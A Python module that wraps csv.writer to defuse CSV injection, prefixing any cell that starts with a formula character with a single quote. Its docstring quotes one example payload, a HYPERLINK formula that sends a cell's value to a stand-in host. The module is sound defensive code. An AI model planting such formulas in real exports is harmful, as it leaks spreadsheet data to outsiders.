"""CSV for spreadsheets: every export writes its rows through `writer`, which neutralises
cells a spreadsheet would run as a formula (CSV injection, OWASP's rule).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
quote, so that a flag named `=HYPERLINK("http://x.example/?"&A1,"click")` opens as that text,
not as a live link that leaks the sheet. Numbers are written as numbers.
"""

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: Any) -> Any:
    """The cell as a spreadsheet should show it: text that could start a formula gets a `'`."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class _Writer:
    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])


def writer(stream: TextIO) -> _Writer:
    """A `csv.writer` on `stream` whose every cell goes through `neutralise`."""
    return _Writer(stream)
